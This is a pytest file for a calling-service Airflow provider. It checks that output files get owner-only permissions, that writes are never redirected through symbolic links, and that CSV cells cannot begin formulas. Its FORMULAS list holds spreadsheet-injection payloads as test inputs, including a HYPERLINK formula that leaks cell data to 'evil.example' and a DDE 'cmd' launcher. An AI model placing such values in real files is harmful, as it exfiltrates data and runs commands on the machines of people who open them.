"""Files that hold numbers: readable by their owner alone from their first moment, and written through nobody's link."""

from __future__ import annotations

import csv
import io
import os
import stat
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from test_whole_or_not_there import WRITERS, YESTERDAY

from airflow_provider_callkaro.calls.outcome import Outcome
from airflow_provider_callkaro.dispatch.tally import RowOutcome
from airflow_provider_callkaro.exceptions import ConfigurationError, NotWritten
from airflow_provider_callkaro.files.formats import FileFormat
from airflow_provider_callkaro.files.writing import local_folder
from airflow_provider_callkaro.files.writing.publishing import published
from airflow_provider_callkaro.files.writing.result_file import ResultFile
from airflow_provider_callkaro.files.writing.spreadsheet import plain_cell
from airflow_provider_callkaro.files.writing.write_check import check_writable
from airflow_provider_callkaro.hooks.ledger import sql_engine
from airflow_provider_callkaro.tasks.run_output import new_report

NOBODY = 65534
as_root = pytest.mark.skipif(os.geteuid() != 0, reason="takes another user's part, which only root can")


@pytest.fixture(autouse=True)
def _an_open_handed_umask() -> Iterator[None]:
    before = os.umask(0)
    yield
    os.umask(before)


@pytest.fixture
def common(tmp_path: Path) -> Iterator[Path]:
    """A folder that everybody may write to, such as /tmp."""
    with tempfile.TemporaryDirectory() as folder:  # other users cannot enter `tmp_path`
        Path(folder).chmod(0o1777)
        yield Path(folder)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.parametrize("before", [None, 0o644, 0o666])
@pytest.mark.parametrize(("name", "write"), WRITERS)
def test_what_is_written_is_for_its_owner_alone(
    tmp_path: Path, name: str, write: Callable[[str], None], before: int | None
) -> None:
    path = tmp_path / name
    if before is not None:
        path.write_bytes(YESTERDAY)
        path.chmod(before)
    write(str(path))
    assert mode(path) == 0o600


def test_what_is_not_finished_is_for_its_owner_alone_too(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with published(str(tmp_path / "report.csv")):
        [unfinished] = tmp_path.iterdir()
        assert mode(unfinished) == 0o600
    probed = []
    monkeypatch.setattr(local_folder.os, "unlink", lambda name, dir_fd: probed.append(os.stat(name, dir_fd=dir_fd)))
    check_writable(str(tmp_path / "report.csv"))
    assert [stat.S_IMODE(each.st_mode) for each in probed] == [0o600]


@pytest.mark.parametrize("uri", ["sqlite:///{path}", "sqlite:////{path}", "sqlite:///file:{path}?uri=true"])
def test_a_new_sqlite_ledger_is_for_its_owner_alone(tmp_path: Path, uri: str) -> None:
    from sqlalchemy import create_engine

    from airflow_provider_callkaro.ledger.sql.ledger import SqlLedger

    path = tmp_path / "ledger.db"
    engine = create_engine(uri.format(path=path))
    with SqlLedger(engine, scope="tonight", run="run") as ledger:
        ledger.state_of(["+919876543210"])
        beside = {each.name: mode(each) for each in tmp_path.iterdir()}
    assert set(beside) == {"ledger.db", "ledger.db-wal", "ledger.db-shm"}
    assert set(beside.values()) == {0o600}


def test_a_ledger_that_is_there_keeps_its_permissions(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from airflow_provider_callkaro.ledger.sql.ledger import SqlLedger

    path = tmp_path / "ledger.db"
    path.touch(mode=0o660)
    path.chmod(0o660)
    monkeypatch.setenv("AIRFLOW_CONN_LEDGER", f"sqlite:///{path}")
    with SqlLedger(sql_engine("ledger"), scope="tonight", run="run"):
        assert mode(path) == 0o660


@pytest.mark.parametrize(("name", "write"), WRITERS)
def test_no_link_is_written_through(tmp_path: Path, name: str, write: Callable[[str], None]) -> None:
    victim = tmp_path / "victim"
    victim.write_bytes(YESTERDAY)
    link = tmp_path / name
    link.symlink_to(victim)
    with pytest.raises(ConfigurationError, match=r"symbolic link.*nobody was rung"):
        check_writable(str(link))
    with pytest.raises(NotWritten):
        write(str(link))
    assert victim.read_bytes() == YESTERDAY
    assert sorted(os.listdir(tmp_path)) == sorted([name, "victim"])


def test_a_link_that_is_set_meanwhile_is_replaced_and_not_written_through(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_bytes(YESTERDAY)
    with published(str(tmp_path / "report.csv")) as file:
        file.write(b"rows")
        (tmp_path / "report.csv").symlink_to(victim)
    assert victim.read_bytes() == YESTERDAY
    assert (tmp_path / "report.csv").read_bytes() == b"rows"
    assert not (tmp_path / "report.csv").is_symlink()


def test_a_folder_that_is_exchanged_meanwhile_gets_nothing(tmp_path: Path) -> None:
    folder, elsewhere = tmp_path / "reports", tmp_path / "elsewhere"
    folder.mkdir()
    elsewhere.mkdir()
    with published(str(folder / "report.csv")) as file:
        file.write(b"rows")
        folder.rename(tmp_path / "moved")
        folder.symlink_to(elsewhere)
    assert os.listdir(elsewhere) == []
    assert (tmp_path / "moved" / "report.csv").read_bytes() == b"rows"


def test_ones_own_link_to_a_folder_is_followed(tmp_path: Path) -> None:
    (tmp_path / "disk").mkdir()
    (tmp_path / "reports").symlink_to("disk")
    with published(str(tmp_path / "reports" / "new" / "report.csv")) as file:
        file.write(b"rows")
    assert (tmp_path / "disk" / "new" / "report.csv").read_bytes() == b"rows"


def test_links_in_a_circle_end(tmp_path: Path) -> None:
    (tmp_path / "a").symlink_to("b")
    (tmp_path / "b").symlink_to("a")
    with pytest.raises(ConfigurationError, match="symbolic link"):
        check_writable(str(tmp_path / "a" / "report.csv"))


@as_root
def test_a_strangers_link_to_a_folder_is_not_followed(common: Path, tmp_path: Path) -> None:
    (tmp_path / "victim").mkdir()
    (common / "reports").symlink_to(tmp_path / "victim")
    os.chown(common / "reports", NOBODY, NOBODY, follow_symlinks=False)
    with pytest.raises(ConfigurationError, match="somebody else's link"):
        check_writable(str(common / "reports" / "report.csv"))
    with pytest.raises(NotWritten), published(str(common / "reports" / "report.csv")):
        pass
    assert os.listdir(tmp_path / "victim") == []


@as_root
def test_a_strangers_pipe_gets_nothing(common: Path) -> None:
    os.mkfifo(common / "report.csv")
    os.chown(common / "report.csv", NOBODY, NOBODY)
    with pytest.raises(ConfigurationError, match="permission is missing"):
        check_writable(str(common / "report.csv"))
    with pytest.raises(NotWritten), published(str(common / "report.csv")):
        pass


@as_root
def test_a_folder_that_can_be_entered_and_not_listed_is_good_enough(common: Path) -> None:
    inner = common / "entered" / "inner"
    inner.mkdir(parents=True)
    os.chown(inner, NOBODY, NOBODY)
    (common / "entered").chmod(0o711)
    inner.chmod(0o300)
    os.seteuid(NOBODY)
    try:
        with published(str(inner / "report.csv")) as file:
            file.write(b"rows")
    finally:
        os.seteuid(0)
    assert (inner / "report.csv").read_bytes() == b"rows"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1-2+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\uff1d1+1",
    "x;=1+1",
    "x\t@a",
    '"=1"',
    "\0=1",
    "\u200b=1",
    "\ufeff\xa0@SUM(1)",
    "x;\u2060+1-1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_file_that_a_person_opens_holds_a_formula(tmp_path: Path, text: str) -> None:
    report = new_report(str(tmp_path / "report.csv"))
    assert report is not None
    report.add(RowOutcome(row_number=1, outcome=Outcome.REJECTED, call_id=text, detail=text))
    report.publish()
    report.close()
    with ResultFile(str(tmp_path / "rows.csv"), kind=FileFormat.CSV) as file:
        file.add({text: text, "nested": [text]})
        file.publish()
    for name in ("report.csv", "rows.csv"):
        with (tmp_path / name).open(newline="") as written:
            cells = [cell for line in csv.reader(written) for cell in line]
        assert text not in cells
        seen = [cell.lstrip("\0\u200b\u2060\ufeff\xa0") for cell in cells]
        assert not [cell for cell in seen if cell[:1] in tuple("=@\t\r\n") or cell.startswith(("+", "-", ";="))]


@pytest.mark.parametrize("number", ["+919876543210", "-1.5", "0", "6.5e-3", "12:30", "Asha", "a=b", ""])
def test_a_number_can_still_be_joined_by(number: str) -> None:
    assert plain_cell(number) == number


@given(st.text(alphabet="=+-@;,\t\r\n \"'a1|\uff1d", max_size=12))
def test_no_text_begins_a_cell_with_a_formula_whatever_parts_the_cells(text: str) -> None:
    written = io.StringIO(newline="")
    csv.writer(written, lineterminator="\n").writerow(["1", plain_cell(text)])
    for delimiter in (",", ";", "\t"):
        written.seek(0)
        for cell in (cell for row in csv.reader(written, delimiter=delimiter) for cell in row):
            assert not cell.lstrip(' "').startswith(("=", "+", "-", "@", "\uff1d")) or cell[1:].isdigit()
